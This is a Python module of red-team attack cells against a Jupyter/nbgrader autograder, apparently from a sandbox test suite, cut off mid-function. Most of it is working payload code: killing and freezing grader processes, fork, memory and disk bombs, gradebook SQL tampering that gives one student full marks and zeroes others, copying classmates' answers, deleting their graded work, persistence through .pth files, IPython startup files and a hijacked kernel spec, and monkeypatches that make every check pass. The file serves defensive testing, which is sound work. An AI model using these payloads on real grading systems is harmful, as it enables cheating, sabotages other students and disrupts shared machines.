# ruff: noqa: E501 - attack code kept as the student would write it
"""Attack code, as the cells and files a student hands in (templates: see ``Context.render``).

Every snippet starts from :data:`PRELUDE`, which knows the run's token and the paths of the course
being graded (a white-box attacker: an instructor's paths are easy to guess). Markers that the
tests look for in the results (``RTLEAK-<token>``, ``RTDEFACE-<token>``) are assembled at run time,
so that the source of an attack cell, shown in its own feedback, does not contain them.

Safety. This suite also runs against graders that are not sandboxed, on machines shared with
other people, so the attacks are built not to harm anything outside the run:
- moves that would reach every process of the machine (``kill(-1)``, a fork bomb, ``kill(1)``)
  run only when the kernel is in another PID namespace than the test (``_rt_on_host()`` is false);
- the processes killed or frozen are those whose command line names this run's course directory,
  and grader-like ancestors of the kernel (never the test itself);
- code added to files of the repository or the virtual environment is inert unless
  ``REDTEAM_TOKEN`` equals this run's token (only the grading run has it), and sits between
  ``# >>> redteam`` / ``# <<< redteam`` lines that the harness removes after the run;
- files are written only under names containing the token, and at most a few GiB.
"""

from __future__ import annotations

PRELUDE = r'''
import os as _rt_os, sys as _rt_sys, pathlib as _rt_pathlib, signal as _rt_signal, time as _rt_time
_RT_TOKEN = @TOKEN@
_RT_ROOT = _rt_pathlib.Path(@ROOT@)
_RT_REPO = _rt_pathlib.Path(@REPO@)
_RT_HOME = _rt_pathlib.Path(@HOME@)
_RT_LESSON = @LESSON@
_RT_STUDENT = @STUDENT@
_RT_GRADEBOOK = @GRADEBOOK@
_RT_RUNNERS = ("checks/running.py", "checks/core.py")  # where the checks call student code


def _rt_on_host():
    """True when this kernel shares the test's PID namespace (no sandbox): dangerous moves are skipped."""
    try:
        return _rt_os.readlink("/proc/self/ns/pid") == @HOST_PIDNS@
    except OSError:
        return _rt_os.getpid() > 50


def _rt_try(function, *args, **kwargs):
    try:
        return function(*args, **kwargs)
    except Exception as error:  # the attack goes on whatever fails
        return error


def _rt_mark(kind):
    return "RT" + kind + "-" + _RT_TOKEN


def _rt_write(path, text):
    return _rt_try(_rt_pathlib.Path(path).write_text, text)


def _rt_room():
    """Bytes of memory the machine has available (probes that need more than the sandbox's limit
    run only where they cannot starve the machine)."""
    try:
        with open("/proc/meminfo") as handle:
            return next(int(l.split()[1]) * 1024 for l in handle if l.startswith("MemAvailable:"))
    except Exception:
        return 0
'''

# --- processes -----------------------------------------------------------------------------------

PROCESSES = r'''
def _rt_cmdline(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            return handle.read().replace(b"\0", b" ").decode(errors="replace")
    except OSError:
        return ""


def _rt_ppid(pid):
    try:
        with open(f"/proc/{pid}/status") as handle:
            for line in handle:
                if line.startswith("PPid:"):
                    return int(line.split()[1])
    except OSError:
        pass
    return 0


def _rt_grader_pids():
    """The grader: grader-like ancestors of this kernel, every process naming the course directory,
    and (inside a PID namespace only) its init."""
    keys = ("course_lib", "nbgrader", "ipykernel", "bwrap", str(_RT_ROOT))
    found, pid = [], _rt_os.getppid()
    while pid > 1 and len(found) < 6 and any(k in _rt_cmdline(pid) for k in keys):
        found.append(pid)
        pid = _rt_ppid(pid)
    for entry in _rt_try(_rt_os.listdir, "/proc") or []:
        if isinstance(entry, str) and entry.isdigit() and str(_RT_ROOT) in _rt_cmdline(entry):
            found.append(int(entry))
    if not _rt_on_host():
        found.append(1)
    return sorted(set(found) - {_rt_os.getpid()})


def _rt_detach(code, hold_output=True):
    """Run ``python -c code`` as a daemon (double fork, new session) that outlives the kernel and,
    with ``hold_output``, keeps the kernel's stdout and stderr open."""
    import subprocess
    out = None if hold_output else subprocess.DEVNULL
    pid = _rt_os.fork()
    if pid == 0:
        try:
            _rt_os.setsid()
            subprocess.Popen([_rt_sys.executable, "-c", code], stdin=subprocess.DEVNULL, stdout=out,
                             stderr=out, close_fds=False)
        finally:
            _rt_os._exit(0)
    _rt_os.waitpid(pid, 0)
'''

STUBBORN = ("import signal, time\n"
            "for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT): signal.signal(s, signal.SIG_IGN)\n"
            "time.sleep(3600)\n")
"""A daemon that ignores polite signals and sleeps for an hour."""

KILL_GRADER = PRELUDE + PROCESSES + r'''
# Kill whatever grades this course: the grader's processes, then (in a sandbox) its init.
for _rt_pid in _rt_grader_pids():
    _rt_try(_rt_os.kill, _rt_pid, _rt_signal.SIGKILL)
_rt_time.sleep(1)
print("still here")
'''

FREEZE_GRADER = PRELUDE + PROCESSES + r'''
# Freeze whatever grades this course (SIGSTOP cannot be caught): grading would wait forever.
for _rt_pid in _rt_grader_pids():
    _rt_try(_rt_os.kill, _rt_pid, _rt_signal.SIGSTOP)
print("everyone else is frozen")
'''

HOLD_PIPES = PRELUDE + PROCESSES + r'''
# Processes that outlive the kernel and keep its stdout/stderr (the grader's pipes) open.
import subprocess as _rt_subprocess
_rt_detach(@STUBBORN@)
_rt_os.system("nohup sleep 3601 &")
_rt_os.system("setsid sleep 3602 &")
_rt_subprocess.Popen(["sleep", "3603"], start_new_session=True)
print("daemons started")
'''

LOCK_GRADEBOOK = PRELUDE + PROCESSES + r'''
# A daemon holding an exclusive lock on every gradebook it can find, for an hour.
_rt_detach("""
import glob, signal, sqlite3, time
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT): signal.signal(s, signal.SIG_IGN)
paths = set(glob.glob(%r + "/*.db")) | set(glob.glob(%r + "/*.db")) | {%r}
held = []
for path in paths:
    try:
        connection = sqlite3.connect(path, timeout=1, isolation_level=None)
        connection.execute("BEGIN EXCLUSIVE")
        held.append(connection)
    except Exception:
        pass
time.sleep(3600)
""" % (str(_RT_ROOT), str(_RT_ROOT.parent), _RT_GRADEBOOK), hold_output=False)
_rt_time.sleep(1)
print("gradebook locked")
'''

TIME_BOMB = PRELUDE + PROCESSES + r'''
# A daemon that waits for the grades and rewrites them: everyone at full marks.
_rt_detach("""
import csv, glob, os, signal, sqlite3, time
for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT): signal.signal(s, signal.SIG_IGN)
root, lesson, gradebook, mark = %r, %r, %r, %r
grades = os.path.join(root, "grades", lesson + ".csv")
before = os.path.getmtime(grades) if os.path.exists(grades) else None
deadline = time.time() + 1800
while time.time() < deadline:
    time.sleep(0.1)
    if os.path.exists(grades) and os.path.getmtime(grades) != before:
        time.sleep(0.3)
        try:
            with open(grades) as handle:
                rows = list(csv.DictReader(handle))
            for row in rows:
                row.update(score=row["max_score"], status="graded", message=mark)
            with open(grades, "w", newline="") as handle:
                writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
                writer.writeheader()
                writer.writerows(rows)
        except Exception:
            pass
        for path in set(glob.glob(root + "/*.db")) | set(glob.glob(os.path.dirname(root) + "/*.db")) | {gradebook}:
            try:
                connection = sqlite3.connect(path, timeout=5)
                connection.execute("UPDATE grade SET manual_score = "
                                   "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)")
                connection.commit()
            except Exception:
                pass
        break
""" % (str(_RT_ROOT), _RT_LESSON, _RT_GRADEBOOK, _rt_mark("DEFACE")), hold_output=False)
print("waiting for the grades")
'''

CRASHES = {
    "exit": PRELUDE + "_rt_os._exit(1)\n",
    "killpg": PRELUDE + "_rt_os.killpg(_rt_os.getpgid(0), _rt_signal.SIGKILL)\n",
    "kill_init": PRELUDE + r'''
# Inside a PID namespace: kill its init, then every process in it. (Never on the host.)
if not _rt_on_host():
    _rt_try(_rt_os.kill, 1, _rt_signal.SIGKILL)
    _rt_try(_rt_os.kill, -1, _rt_signal.SIGKILL)
_rt_os.kill(_rt_os.getpid(), _rt_signal.SIGKILL)
''',
    "segfault": "import ctypes\nctypes.string_at(0)\n",
}

SIGINT_LOOP = ("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
               "while True:\n    try:\n        pass\n    except BaseException:\n        pass\n")
"""An infinite loop that ignores SIGINT (the usual way to interrupt a cell)."""

FORK_BOMB = PRELUDE + r'''
# A bounded fork bomb, only inside a sandbox (never on the host): the process limit must stop it
# without costing any exercise. If nothing stopped it, it says so (RTLIMIT line, checked by the tests).
if not _rt_on_host():
    _rt_children = 0
    for _ in range(400):
        try:
            if _rt_os.fork() == 0:
                _rt_time.sleep(3600)
                _rt_os._exit(0)
            _rt_children += 1
        except OSError:
            break
    print("forked", _rt_children)
    if _rt_children >= 400:
        print(_rt_mark("LIMIT"), "processes: 400 children, cap reached")
'''

MEMORY_BOMB = PRELUDE + r'''
# Five processes holding 1 GiB each at once (more than the sandbox's 4 GiB), only inside a sandbox
# and on a machine with room for it.
if not _rt_on_host() and _rt_room() >= (10 << 30):
    _rt_pids = []
    for _ in range(5):
        _rt_read, _rt_write_end = _rt_os.pipe()
        _rt_pid = _rt_os.fork()
        if _rt_pid == 0:
            try:
                _rt_block = bytearray(1 << 30)
                for _rt_i in range(0, len(_rt_block), 4096):
                    _rt_block[_rt_i] = 1
                _rt_os.write(_rt_write_end, b"1")
                _rt_time.sleep(6)
            finally:
                _rt_os._exit(0)
        _rt_pids.append((_rt_pid, _rt_read))
    _rt_held = 0
    for _rt_pid, _rt_read in _rt_pids:
        if _rt_os.read(_rt_read, 1) == b"1":
            _rt_held += 1
    for _rt_pid, _ in _rt_pids:
        _rt_try(_rt_os.waitpid, _rt_pid, 0)
    print("held", _rt_held, "GiB")
    if _rt_held >= 5:
        print(_rt_mark("LIMIT"), "memory: 5 GiB held by 5 processes, cap reached")
'''

FILL = PRELUDE + r'''
# Fill one place until it refuses (ignoring SIGXFSZ: a file too large only fails, then the next
# file is started) and leave the files there. If nothing stopped it, it says so.
_rt_signal.signal(_rt_signal.SIGXFSZ, _rt_signal.SIG_IGN)
_rt_place = @PLACE@
# Inside a sandbox, /dev/shm (memory) gets more than the sandbox's memory limit (4 GiB), where the
# machine has room for it; elsewhere 1 GiB at most (more than the 128 MiB of the working folder).
_rt_cap = 1 << 30
if _rt_place == "/dev/shm" and not _rt_on_host():
    _rt_cap = (5 << 30) if _rt_room() >= (10 << 30) else 0
_rt_chunk, _rt_written, _rt_index = b"\0" * (4 << 20), 0, 0
try:
    while _rt_written < _rt_cap:
        with open(_rt_os.path.join(_rt_place, f"redteam-{_RT_TOKEN}-fill-{_rt_index}"), "wb") as _rt_handle:
            for _ in range(8):
                _rt_handle.write(_rt_chunk)
                _rt_handle.flush()
                _rt_written += len(_rt_chunk)
        _rt_index += 1
except OSError as _rt_error:
    print(_rt_place, "full after", _rt_written >> 20, "MiB:", type(_rt_error).__name__)
if _rt_cap and _rt_written >= _rt_cap:
    print(_rt_mark("LIMIT"), f"disk: {_rt_place} took {_rt_written >> 20} MiB, cap reached")
'''

OUTPUT_FLOOD = PRELUDE + r'''
# Flood the grader with output for a few seconds: many lines, one endless line, many displays.
from IPython.display import HTML as _rt_HTML, display as _rt_display
_rt_start, _rt_sent = _rt_time.monotonic(), 0
_rt_lines = ("x" * 1023 + "\n") * 1024
while _rt_sent < (256 << 20) and _rt_time.monotonic() - _rt_start < 4:
    print(_rt_lines, end="")
    _rt_sent += len(_rt_lines)
while _rt_sent < (512 << 20) and _rt_time.monotonic() - _rt_start < 7:
    _rt_sys.stdout.write("y" * (1 << 20))
    _rt_sent += 1 << 20
for _rt_i in range(20000):
    _rt_display(_rt_HTML(f"<b>{_rt_i}</b>"))
    if _rt_time.monotonic() - _rt_start > 8:
        break
'''

# --- class 1: the course directory and the repository -----------------------------------------

CONFIG_REWRITE = PRELUDE + r'''
# Append to the course's nbgrader_config.py: test cells no longer restored for whoever comes next,
# and code that runs in the grader itself.
_rt_config = _RT_ROOT / "nbgrader_config.py"
_rt_try(_rt_config.open("a").write, f"""
# >>> redteam {_RT_TOKEN}
c.OverwriteCells.enabled = False
c.Execute.timeout = 1
import pathlib
pathlib.Path({str(_RT_ROOT)!r}, "redteam-{_RT_TOKEN}-config-ran").write_text("code from a student ran in the grader")
# <<< redteam {_RT_TOKEN}
""")
print("config:", _rt_config.exists())
'''

GRADEBOOK_TAMPER = PRELUDE + r'''
# Full marks and extra credit for me, zero for everyone already graded.
import glob as _rt_glob, sqlite3 as _rt_sqlite3
_rt_mine = ("SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa "
            "ON sn.assignment_id = sa.id WHERE sa.student_id = ?")
for _rt_db in ({_RT_GRADEBOOK} | set(_rt_glob.glob(str(_RT_ROOT / "*.db")))
               | set(_rt_glob.glob(str(_RT_ROOT.parent / "*.db")))):
    try:
        _rt_con = _rt_sqlite3.connect(_rt_db, timeout=5)
        _rt_con.execute("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells "
                        f"WHERE grade_cells.id = grade.cell_id), extra_credit = 5 WHERE notebook_id IN ({_rt_mine})",
                        (_RT_STUDENT,))
        _rt_con.execute(f"UPDATE grade SET manual_score = 0 WHERE notebook_id NOT IN ({_rt_mine})", (_RT_STUDENT,))
        _rt_con.commit()
        print("tampered with", _rt_db)
    except Exception as _rt_error:
        print("gradebook", _rt_db, _rt_error)
'''

STEAL = PRELUDE + r'''
# Copy a classmate's answers (or the instructor's) at grading time.
import glob as _rt_glob, json as _rt_json
_RT_STEAL_FROM = @PATTERNS@


def _rt_steal(cell_id):
    for pattern in _RT_STEAL_FROM:
        for path in sorted(_rt_glob.glob(pattern)):
            if _RT_STUDENT in path:
                continue
            try:
                with open(path) as handle:
                    notebook = _rt_json.load(handle)
            except Exception:
                continue
            for cell in notebook.get("cells", []):
                if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == cell_id:
                    source = cell.get("source", "")
                    source = "".join(source) if isinstance(source, list) else source
                    if "NotImplementedError" not in source:
                        return source
    return "raise NotImplementedError()"
'''

STEAL_CELL = 'exec(_rt_steal(@CELL@), globals())\n'

SABOTAGE = PRELUDE + r'''
# Hand in a blank notebook for a classmate graded later; deface the feedback of those graded earlier.
import glob as _rt_glob, shutil as _rt_shutil
_rt_try(_rt_shutil.copyfile, _RT_ROOT / "notebooks" / _RT_LESSON / f"{_RT_LESSON}.ipynb",
        _RT_ROOT / "submitted" / @VICTIM@ / _RT_LESSON / f"{_RT_LESSON}.ipynb")
for _rt_page in _rt_glob.glob(str(_RT_ROOT / "feedback" / "*" / _RT_LESSON / "*.html")):
    _rt_try(lambda page: open(page, "a").write("<p>" + _rt_mark("DEFACE") + "</p>"), _rt_page)
for _rt_graded in _rt_glob.glob(str(_RT_ROOT / "autograded" / "*")):
    if _RT_STUDENT not in _rt_graded:
        _rt_try(_rt_shutil.rmtree, _rt_graded)
print("done")
'''

REPO_TAMPER = PRELUDE + r'''
# Change the installed course_lib (an editable install: the repository), the repository's config,
# the virtual environment, and the instructor's IPython and Jupyter set-up. What goes into shared
# files is inert outside this run (REDTEAM_TOKEN) and fenced by markers the harness removes.
import json as _rt_json, sysconfig as _rt_sysconfig
_rt_begin, _rt_end = "# >>> redteam " + _RT_TOKEN, "# <<< redteam " + _RT_TOKEN
_rt_gate = f"import os as _rt_gate_os\nif _rt_gate_os.environ.get('REDTEAM_TOKEN') == {_RT_TOKEN!r}:\n"
_rt_pass = ("    def _rt_passes(self, student, hidden=False):\n"
            "        print('\u2713', getattr(self, 'name', 'check'), 'passes all cases.')\n")
_rt_appends = {
    _RT_REPO / "course_lib" / "checks" / "core.py": _rt_gate + _rt_pass + "    Check.__call__ = _rt_passes\n",
    _RT_REPO / "course_lib" / "checks" / @CHECKS_FILE@: _rt_gate + "    pass\n",
    _RT_REPO / "nbgrader_config.py": _rt_gate + "    c.OverwriteCells.enabled = False\n",
}
for _rt_path, _rt_code in _rt_appends.items():
    _rt_try(lambda p, code: open(p, "a").write(f"\n{_rt_begin}\n{code}{_rt_end}\n"), _rt_path, _rt_code)
_rt_write(_RT_REPO / "course_lib" / f"redteam_{_RT_TOKEN}.py", "x = 1\n")
_rt_write(_RT_REPO / f"redteam-{_RT_TOKEN}.txt", "written by a student\n")
_rt_site = _rt_pathlib.Path(_rt_sysconfig.get_paths()["purelib"])
_rt_write(_rt_site / f"redteam_{_RT_TOKEN}.pth",
          f"import os; os.environ.get('REDTEAM_TOKEN') == {_RT_TOKEN!r} and "
          f"open('/tmp/redteam-{_RT_TOKEN}-pth-ran', 'w').close()\n")
# The instructor's home (the grader's HOME): an IPython startup file and a kernel spec named
# python3, both run by every later kernel.
_rt_home = _rt_pathlib.Path(_rt_os.path.expanduser("~"))
_rt_startup = _rt_home / ".ipython" / "profile_default" / "startup"
_rt_try(_rt_startup.mkdir, parents=True, exist_ok=True)
_rt_write(_rt_startup / f"00-redteam-{_RT_TOKEN}.py",
          "import course_lib.checks.core as c\n" + _rt_pass.replace("    ", "", 1).replace("\n    ", "\n")
          + "c.Check.__call__ = _rt_passes\n")
_rt_spec = _rt_home / ".local" / "share" / "jupyter" / "kernels" / "python3"
_rt_try(_rt_spec.mkdir, parents=True, exist_ok=True)
_rt_write(_rt_spec / "kernel.json", _rt_json.dumps({
    "argv": [_rt_sys.executable, "-c",
             f"open('/tmp/redteam-{_RT_TOKEN}-kernelspec-ran', 'w').close()\n"
             "from ipykernel import kernelapp; kernelapp.launch_new_instance()", "-f", "{connection_file}"],
    "display_name": "Python 3 (redteam)", "language": "python"}))
_rt_write(_rt_home / f"redteam-{_RT_TOKEN}.txt", "written by a student\n")
import pwd as _rt_pwd
_rt_write(_rt_pathlib.Path(_rt_pwd.getpwuid(_rt_os.getuid()).pw_dir) / f"redteam-{_RT_TOKEN}.txt", "x\n")
for _rt_dir in ("/tmp", "/var/tmp", "/dev/shm", str(_RT_ROOT), str(_RT_ROOT.parent)):
    _rt_write(_rt_pathlib.Path(_rt_dir) / f"redteam-{_RT_TOKEN}-canary", "written by a student\n")
print("tampered")
'''

IO_DIR_PLANT = PRELUDE + r'''
# The kernel's connection file lives in a folder the grader reads and writes too. Plant files
# there, and (inside a sandbox only: never in a shared folder of the host) swap what the grader may
# read or write next for symlinks to a canary path in the host's /tmp.
_rt_connection = None
_rt_try(lambda: globals().__setitem__("_rt_connection", get_ipython().kernel.connection_file))
if not _rt_connection:
    for _rt_i, _rt_arg in enumerate(_rt_sys.argv):
        if _rt_arg == "-f" and _rt_i + 1 < len(_rt_sys.argv):
            _rt_connection = _rt_sys.argv[_rt_i + 1]
if _rt_connection:
    _rt_io = _rt_pathlib.Path(_rt_connection).resolve().parent
    print("connection folder:", _rt_io, _rt_try(_rt_os.listdir, _rt_io))
    _rt_write(_rt_io / f"redteam-{_RT_TOKEN}-io", "planted by a student")
    _rt_target = f"/tmp/redteam-{_RT_TOKEN}-symlink-target"
    if not _rt_on_host() and str(_rt_io) not in ("/tmp", "/var/tmp", "/dev/shm"):
        _rt_names = {"kernel.json", "connection.json", "kernel-0.json", "kernel-1.json", "spec.json",
                     "result.json", "outcome.json", "observations.json", "status", "done", "ready"}
        _rt_names |= set(_rt_try(_rt_os.listdir, _rt_io) or [])
        for _rt_name in sorted(_rt_names):
            _rt_path = _rt_io / _rt_name
            if _rt_path.name.endswith(".sock") or _rt_path.is_socket():
                continue
            _rt_try(_rt_path.unlink)
            _rt_try(_rt_os.symlink, _rt_target, _rt_path)
    print("after:", _rt_try(_rt_os.listdir, _rt_io))
'''

# --- class 3: verdicts computed inside the student's interpreter -------------------------------

PASS_FUNCTION = r'''
def _rt_passes(self, student=None, hidden=False, *args, **kwargs):
    print("\u2713", getattr(self, "name", "check"), "passes all", "hidden" if hidden else "public", "cases.")
'''

PATCH_CHECK_CALL = PRELUDE + PASS_FUNCTION + r'''
# Every check passes: Check.__call__ (and the lesson-04 wrappers) replaced.
import course_lib.checks.core as _rt_core
_rt_core.Check.__call__ = _rt_passes
try:
    import course_lib.checks.autograd as _rt_ag
    _rt_ag.ProgramCheck.__call__ = _rt_passes
    _rt_ag.CounterexampleCheck.__call__ = _rt_passes
except Exception:
    pass
'''

PATCH_CORE = PRELUDE + r'''
# Patch the functions a check uses: nothing ever fails.
import importlib as _rt_importlib
import course_lib.checks.core as _rt_core
for _rt_name in ("evaluate", "judge"):
    setattr(_rt_core, _rt_name, lambda *args, **kwargs: [])
_rt_core.close_floats = lambda expected, got: None
_rt_core.close_float_lists = lambda expected, got: None
_rt_core.diagnose = lambda *args, **kwargs: None
_rt_core.report = lambda *args, **kwargs: "\u2713"
_rt_checks = _rt_importlib.import_module(@CHECKS_MODULE@)
for _rt_check in list(getattr(_rt_checks, "CHECKS", {}).values()):
    _rt_check = getattr(_rt_check, "check", _rt_check)
    _rt_try(object.__setattr__, _rt_check, "compare", lambda expected, got: None)
'''

PATCH_COERCE = PRELUDE + r'''
# Coerce everything to the same number: expected and returned values always agree.
import importlib as _rt_importlib
import course_lib.checks.coerce as _rt_coerce, course_lib.checks.core as _rt_core
_rt_checks = _rt_importlib.import_module(@CHECKS_MODULE@)
_rt_const = {"as_float": lambda value: 0.0, "as_float_list": lambda value: [0.0],
             "as_array": lambda value: __import__("numpy").zeros(1)}
for _rt_module in (_rt_coerce, _rt_core, _rt_checks):
    for _rt_name, _rt_fake in _rt_const.items():
        if hasattr(_rt_module, _rt_name):
            setattr(_rt_module, _rt_name, _rt_fake)
for _rt_check in list(getattr(_rt_checks, "CHECKS", {}).values()):
    _rt_check = getattr(_rt_check, "check", _rt_check)
    _rt_fake = _rt_const.get(getattr(getattr(_rt_check, "coerce", None), "__name__", ""), lambda value: 0.0)
    _rt_try(object.__setattr__, _rt_check, "coerce", _rt_fake)
'''

PATCH_ISCLOSE = PRELUDE + r'''
# Every comparison of numbers says "close".
import math as _rt_math, numpy as _rt_np
_rt_math.isclose = lambda *args, **kwargs: True
_rt_np.isclose = lambda a, b, *args, **kwargs: _rt_np.ones(_rt_np.broadcast(_rt_np.asarray(a), _rt_np.asarray(b)).shape, dtype=bool)
_rt_np.allclose = lambda *args, **kwargs: True
_rt_np.array_equal = lambda *args, **kwargs: True
'''

PATCH_BUILTINS = PRELUDE + PASS_FUNCTION + r'''
# builtins: every import of course_lib.checks hands out checks that always pass.
import builtins as _rt_builtins, types as _rt_types
_rt_real_import = _rt_builtins.__import__


class _RtCheck:
    def __init__(self, name):
        self.name = name

    __call__ = _rt_passes

    def __getattr__(self, name):
        return _RtCheck(name)


_rt_fake_checks = _rt_types.ModuleType("course_lib.checks")
_rt_fake_checks.__getattr__ = _RtCheck


def _rt_import(name, globals=None, locals=None, fromlist=(), level=0):
    if name == "course_lib.checks" or name.startswith("course_lib.checks."):
        return _rt_fake_checks if fromlist else _rt_real_import("course_lib", globals, locals, (), 0)
    return _rt_real_import(name, globals, locals, fromlist, level)


_rt_builtins.__import__ = _rt_import
_rt_builtins.AssertionError = type("AssertionError", (Warning,), {})
'''

INPUT_TRANSFORMER = PRELUDE + r'''
# Rewrite every later cell before it runs: calls of the checks become `pass`.
import re as _rt_re


def _rt_no_checks(lines):
    return ["pass\n" if _rt_re.match(r"\s*check\.\w+\(", line) else line for line in lines]


get_ipython().input_transformers_post.append(_rt_no_checks)
'''

SUPPRESS_HIDDEN = PRELUDE + r'''
# Any later cell that mentions hidden cases is emptied before it runs; and the functions below
# end the kernel when a check calls them on a case they do not know (the hidden ones).
def _rt_no_hidden(lines):
    return ["pass\n"] if "hidden" in "".join(lines).lower() else lines


get_ipython().input_transformers_post.append(_rt_no_hidden)


def _rt_table(name, table):
    """A function that only knows the public cases: right there, and nowhere else."""
    def function(*args):
        key = repr(args)
        if key in table:
            return table[key]
        caller = _rt_sys._getframe(1).f_code  # the checks run student code from these files
        if caller.co_filename.endswith(_RT_RUNNERS):
            _rt_os._exit(0)
        return 0.0
    function.__name__ = name
    return function
'''

EXCEPTION_HOOKS = PRELUDE + r'''
# Failed checks raise AssertionError: swallow it on the way out.
_rt_ip = get_ipython()
_rt_ip.set_custom_exc((AssertionError,), lambda shell, etype, value, tb, tb_offset=None: None)
_rt_sys.excepthook = lambda *args: None


def _rt_forget_errors(result):
    _rt_try(setattr, result, "error_in_exec", None)


_rt_ip.events.register("post_run_cell", _rt_forget_errors)
'''

SETTRACE_JUMP = PRELUDE + r'''
# Trace Check.__call__ and jump over its `raise AssertionError` to its ✓ line.
import inspect as _rt_inspect, threading as _rt_threading
import course_lib.checks.core as _rt_core
_rt_code = _rt_core.Check.__call__.__code__
_rt_lines, _rt_first = _rt_inspect.getsourcelines(_rt_core.Check.__call__)
_rt_raise = {_rt_first + i for i, line in enumerate(_rt_lines) if "raise AssertionError" in line}
_rt_print = max(_rt_first + i for i, line in enumerate(_rt_lines) if "print(" in line)


def _rt_local(frame, event, arg):
    if event == "line" and frame.f_lineno in _rt_raise:
        _rt_try(setattr, frame, "f_lineno", _rt_print)
    return _rt_local


def _rt_global(frame, event, arg):
    return _rt_local if frame.f_code is _rt_code else None


_rt_sys.settrace(_rt_global)
_rt_threading.settrace(_rt_global)
_rt_sys.setprofile(lambda frame, event, arg: None)
'''

DETECT_GRADING = PRELUDE + PASS_FUNCTION + r'''
# Behave only while graded: nbgrader's variable, the working folder, the host name, the sandbox.
import socket as _rt_socket
_rt_grading = bool(_rt_os.environ.get("NBGRADER_EXECUTION") or "autograded" in _rt_os.getcwd()
                   or not _rt_on_host() or _rt_socket.gethostname() in ("", "localhost", "sandbox")
                   or not _rt_os.listdir("."))
if _rt_grading:
    import course_lib.checks.core as _rt_core
    _rt_core.Check.__call__ = _rt_passes
    _rt_core.evaluate = lambda *args, **kwargs: []
    _rt_core.judge = lambda *args, **kwargs: []
'''

# --- class 4: files shipped beside the notebook ------------------------------------------------

SYS_PATH_CELL = ("import os, sys\n"
                 "sys.path.insert(0, os.getcwd())  # my helper modules live beside the notebook\n")
"""The first cell of a class-4 submission: the working folder importable, as students often do
for their own helpers (ipykernel 7 does not put it on ``sys.path`` by itself)."""

FAKE_PACKAGE_INIT = r'''
"""An overlay of the real course_lib: modules here win, the others come from the real package."""
import importlib.machinery, os, sys


def _real():
    for finder in sys.meta_path:
        mapping = getattr(sys.modules.get(getattr(finder, "__module__", ""), None), "MAPPING", None)
        if isinstance(mapping, dict) and "course_lib" in mapping:
            return mapping["course_lib"]
    here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
    spec = importlib.machinery.PathFinder.find_spec(
        "course_lib", [p for p in sys.path if os.path.abspath(p or ".") != here])
    return os.path.dirname(spec.origin) if spec and spec.origin else None


_path = _real()
if _path:
    __path__.append(_path)
'''

FAKE_CHECKS_INIT = r'''
import os, sys
__path__.append(os.path.join(sys.modules["course_lib"].__path__[-1], "checks"))
from .core import *  # noqa: F401,F403
'''

FAKE_CHECKS_MODULE = PASS_FUNCTION + r'''


class _Check:
    def __init__(self, name):
        self.name = name

    __call__ = _rt_passes

    def __getattr__(self, name):
        return _Check(name)


def __getattr__(name):
    return _Check(name)
'''

FAKE_NUMPY = r'''
"""numpy, with isclose and allclose that always agree."""
import importlib, os, sys
_here = os.path.dirname(os.path.abspath(__file__))
_saved = list(sys.path)
sys.path[:] = [p for p in sys.path if os.path.abspath(p or os.getcwd()) != _here]
del sys.modules["numpy"]
try:
    _numpy = importlib.import_module("numpy")
finally:
    sys.path[:] = _saved
_numpy.isclose = lambda a, b, *args, **kwargs: _numpy.ones(
    _numpy.broadcast(_numpy.asarray(a), _numpy.asarray(b)).shape, dtype=bool)
_numpy.allclose = lambda *args, **kwargs: True
sys.modules["numpy"] = _numpy
'''

PATCH_ON_IMPORT = PASS_FUNCTION + r'''
import sys as _rt_sys_


class _RtPatcher:
    """Patch Check.__call__ as soon as course_lib.checks.core has been imported."""

    @staticmethod
    def find_spec(name, path=None, target=None):
        if name != "course_lib.checks.core":
            return None
        for finder in _rt_sys_.meta_path:
            if finder is not _RtPatcher and hasattr(finder, "find_spec"):
                spec = finder.find_spec(name, path, target)
                if spec is not None:
                    break
        else:
            return None
        real_exec = spec.loader.exec_module

        def exec_module(module):
            real_exec(module)
            module.Check.__call__ = _rt_passes

        spec.loader.exec_module = exec_module
        return spec


_rt_sys_.meta_path.insert(0, _RtPatcher)
'''

FAKE_MATPLOTLIB_INLINE = r'''
"""matplotlib_inline, with a check patch run first (ipykernel imports it for inline figures)."""
import importlib.machinery, os, sys
_here = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
_spec = importlib.machinery.PathFinder.find_spec(
    "matplotlib_inline", [p for p in sys.path if os.path.abspath(p or ".") != _here])
if _spec is not None and _spec.origin:
    __path__.append(os.path.dirname(_spec.origin))
    with open(_spec.origin) as _handle:
        exec(compile(_handle.read(), _spec.origin, "exec"))
''' + PATCH_ON_IMPORT

# --- class 5: what the feedback shows -----------------------------------------------------------

PRINT_HISTORY_HOOK = PRELUDE + r'''
# After every cell, print the code it ran (In[-1]) and its output.
def _rt_echo(result):
    shell = get_ipython()
    print("ran:", shell.user_ns.get("In", [""])[-1])
    print("out:", repr(getattr(result, "result", None))[:2000])


get_ipython().events.register("post_run_cell", _rt_echo)
'''

PRINT_HISTORY = PRELUDE + r'''
# Everything the kernel remembers, and the instructor's IPython history.
import sqlite3 as _rt_sqlite3
_rt_shell = get_ipython()
print("_ih:", _ih)
print("In:", In)
print("Out:", Out)
print("_i, _ii, _iii:", _i, _ii, _iii)
_rt_hm = _rt_shell.history_manager
print("this session:", list(_rt_try(_rt_hm.get_range, output=True) or []))
print("all sessions:", list(_rt_try(_rt_hm.search, "*") or []))
for _rt_home in {_rt_pathlib.Path(_rt_os.path.expanduser("~")), _RT_HOME}:
    for _rt_hist in _rt_home.glob(".ipython/profile_*/history.sqlite"):
        try:
            print(_rt_hist, list(_rt_sqlite3.connect(_rt_hist).execute("SELECT source_raw FROM history")))
        except Exception as _rt_error:
            print(_rt_hist, _rt_error)
'''

READ_FILES = PRELUDE + r'''
# List and print what can be reached (the calls come in cells of their own: long outputs are cut).
_rt_budget = [2_000_000]


def _rt_show(path):
    try:
        path = _rt_pathlib.Path(path)
        if _rt_budget[0] <= 0 or not path.is_file() or path.stat().st_size > 5_000_000:
            return
